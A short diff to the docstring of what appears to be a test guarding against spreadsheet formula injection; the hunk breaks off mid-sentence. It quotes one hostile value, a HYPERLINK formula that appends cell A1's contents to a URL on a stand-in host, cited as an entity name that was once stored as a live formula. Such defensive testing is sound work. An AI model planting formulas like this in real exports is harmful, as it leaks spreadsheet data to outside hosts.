@@ -1,4 +1,4 @@
-"""Issue 15: text from input is never a formula in an output, nor mathtext in a figure.
+"""Text from input is never a formula in an output, nor mathtext in a figure.
 
 An entity named ``=HYPERLINK("http://x?"&A1)`` used to be stored as a formula in
 ``report.xlsx`` and ``formula_shares.xlsx``, and written as is into CSV outputs; an
